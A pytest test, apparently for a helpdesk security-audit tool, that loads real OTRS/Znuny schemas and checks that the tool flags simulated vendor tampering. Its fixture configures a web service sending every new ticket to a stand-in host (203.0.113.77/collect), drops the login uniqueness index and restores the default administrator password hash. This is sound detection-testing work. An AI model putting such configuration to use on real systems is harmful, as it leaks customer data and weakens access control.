"""--database on real OTRS 6.0.x, Znuny LTS 6.0.x and Znuny 7.0.x: each release's own official schema and
initial data (scripts/database/ of the release) loaded into a private PostgreSQL and a private MariaDB,
with the deployment the install wrote; then the vendor's tampering, caught identically live and from the
server's dump."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(ROOT / "sample_installs"))
import dbservers  # noqa: E402
import sampledesk_database as sdb  # noqa: E402

DB_CATEGORIES = ("outbound-endpoint", "unofficial-package", "package-file-modified", "deployment-mismatch",
                 "unreadable-database", "schema-drift", "initial-credentials")
#: a vendor fork of the official schema: an added column and table, a retyped column, a dropped official
#: foreign key, a trigger (and on PostgreSQL its function), the official unique index on users.login dropped
FORK = {
    "postgresql": ("ALTER TABLE ticket ADD COLUMN vendor_ref VARCHAR(64) NULL;\n"
                   "CREATE TABLE vendor_sync (id serial NOT NULL, payload TEXT NOT NULL, PRIMARY KEY(id));\n"
                   "ALTER TABLE ticket ALTER COLUMN title TYPE VARCHAR(100);\n"
                   "ALTER TABLE ticket DROP CONSTRAINT FK_ticket_queue_id_id;\n"
                   "CREATE FUNCTION vendor_push() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;\n"
                   "CREATE TRIGGER vendor_push BEFORE INSERT ON ticket FOR EACH ROW EXECUTE FUNCTION vendor_push();\n"
                   "ALTER TABLE users DROP CONSTRAINT users_login;\n"),
    "mysql": ("ALTER TABLE ticket ADD COLUMN vendor_ref VARCHAR(64) NULL;\n"
              "CREATE TABLE vendor_sync (id INTEGER NOT NULL AUTO_INCREMENT, payload LONGBLOB NOT NULL, PRIMARY KEY(id));\n"
              "ALTER TABLE ticket MODIFY title VARCHAR(100) NULL;\n"
              "ALTER TABLE ticket DROP FOREIGN KEY FK_ticket_queue_id_id;\n"
              "CREATE TRIGGER vendor_push BEFORE INSERT ON ticket FOR EACH ROW SET NEW.title = NEW.title;\n"
              "ALTER TABLE users DROP INDEX users_login;\n"),
}


@pytest.fixture(scope="module", params=["postgresql", "mariadb"])
def server(request):
    yield from dbservers.start(request.param)


def _official_sql(tree: Path, engine: str) -> str:
    """The release's own schema, initial data and post-schema (foreign keys), in the installer's order."""
    d = tree / "scripts/database"
    prefix = "otrs-" if (d / f"otrs-schema.{engine}.sql").exists() else ""
    return "".join((d / f"{prefix}{part}.{engine}.sql").read_text(encoding="utf-8")
                   for part in ("schema", "initial_insert", "schema-post"))


def _initial_hash(tree: Path, engine: str) -> str:
    """root@localhost's password hash in the release's own initial data (read from the file, not assumed)."""
    import re
    d = tree / "scripts/database"
    path = next(p for p in (d / f"otrs-initial_insert.{engine}.sql", d / f"initial_insert.{engine}.sql") if p.exists())
    return re.search(r"'root@localhost', '([^']+)'", path.read_text(encoding="utf-8")).group(1)


def _releases(real):
    out = []
    for product, line in (("otrs", "6.0"), ("znuny-lts", "6.0"), ("znuny", "7.0")):
        rel = real.newest(product, line)
        if rel is not None:
            out.append(rel)
    return out


def _db(report):
    return {(f["check"], f["category"], f["severity"], f["path"], f["message"]) for f in report["findings"]
            if f["category"] in DB_CATEGORIES}


def test_official_databases_are_clean_and_tampering_is_caught_live_and_from_the_dump(real, server, tmp_path):
    engine = "postgresql" if server.engine == "postgresql" else "mysql"
    figures = real.figures.setdefault("database", {})
    for rel in _releases(real):
        tree = real.install(rel, f"db-{server.engine}-{rel.key}")
        zzz = (tree / "Kernel/Config/Files/ZZZAAuto.pm").read_bytes()
        # what the web installer does at its end: the administrator's password replaced
        server.load(_official_sql(rel.tree, engine) + sdb.deployment(engine, zzz) +
                    "UPDATE users SET pw = '{SHA256}installer-set' WHERE login = 'root@localhost';\n")
        clean, rc = real.audit(tree, "--database", server.dsn())
        assert _db(clean) == set(), f"{rel.key}: {sorted(_db(clean))[:5]}"
        assert clean["database"]["deployment"]["same"] is True
        # the initial data makes root@localhost the one administrator; no second factor is configured
        assert clean["database"]["admins"] == ["root@localhost"] and clean["database"]["second_factor"] is None
        # the release's default: article bodies and attachments in the database
        assert clean["database"]["article_storage"].endswith("ArticleStorageDB")
        tables = clean["database"]["tables"]
        assert tables > 100, tables
        # the vendor: a web service that pushes every ticket home, its own package (one file of which it
        # edited on disk after installing), and a setting changed in ZZZAAuto.pm behind the GUI's back
        ws_yaml = ("---\nDescription: ticket sync\nRequester:\n  Invoker:\n    Push:\n      Events:\n"
                   "      - Asynchronous: '1'\n        Event: TicketCreate\n      Type: Test::Test\n"
                   "  Transport:\n    Config:\n      Host: http://203.0.113.77/collect\n    Type: HTTP::REST\n")
        module = b"package Kernel::System::VendorSync;\nuse strict;\nsub Run { return 1 }\n1;\n"
        opm = sdb.package_xml("VendorSync", "2.0.1", "Grey Market GmbH", {"Kernel/System/VendorSync.pm": module})
        server.sql(sdb.webservice(engine, "VendorSync", ws_yaml) + sdb.package(engine, "VendorSync", "2.0.1",
                                                                              "Grey Market GmbH", opm) + FORK[engine]
                   + f"UPDATE users SET pw = '{_initial_hash(rel.tree, engine)}' WHERE login = 'root@localhost';\n",
                   **({"user": dbservers.USER} if server.engine == "postgresql" else {}))
        (tree / "Kernel/System/VendorSync.pm").write_bytes(module.replace(b"return 1", b"return 0"))
        text = (tree / "Kernel/Config/Files/ZZZAAuto.pm").read_text()
        assert "$Self->{'SessionMaxTime'} =  '57600';" in text, rel.key
        (tree / "Kernel/Config/Files/ZZZAAuto.pm").write_text(
            text.replace("$Self->{'SessionMaxTime'} =  '57600';", "$Self->{'SessionMaxTime'} =  '999999';"))
        live, rc = real.audit(tree, "--database", server.dsn())
        assert rc == 1
        got = _db(live)
        cats = {(c, p) for _i, c, _s, p, _m in got}
        assert ("outbound-endpoint", None) in cats and ("unofficial-package", None) in cats
        assert ("package-file-modified", "Kernel/System/VendorSync.pm") in cats
        assert ("deployment-mismatch", "Kernel/Config/Files/ZZZAAuto.pm") in cats
        assert ("initial-credentials", None) in cats
        mismatch = [m for _i, c, _s, _p, m in got if c == "deployment-mismatch"]
        assert mismatch[0].endswith(": SessionMaxTime")
        push = [m for _i, c, s, _p, m in got if c == "outbound-endpoint"]
        assert any("web service VendorSync talks to http://203.0.113.77/collect" in m for m in push)
        drift = {(d["evidence"]["drift"]["kind"], d["evidence"]["drift"]["table"], d["evidence"]["drift"]["name"])
                 for d in live["findings"] if d["category"] == "schema-drift"}
        want = {("column-added", "ticket", "vendor_ref"), ("table-added", "vendor_sync", None),
                ("column-type", "ticket", "title"), ("foreign-key-dropped", "ticket", "(queue_id) -> queue(id)"),
                ("trigger", None, "vendor_push"), ("index-dropped", "users", "unique index (login)")}
        if engine == "postgresql":
            want.add(("routine", None, "vendor_push"))
        assert drift == want, sorted(drift)
        dump = server.dump(tmp_path / f"{rel.key}.sql")
        from_dump, rc_dump = real.audit(tree, "--database", dump)
        assert _db(from_dump) == got and rc_dump == rc
        figures[f"{server.engine} {rel.key}"] = {"tables": tables, "clean": True, "caught": sorted({c for c, _p in cats}),
                                                 "schema_drift": len(drift), "dump_bytes": dump.stat().st_size}
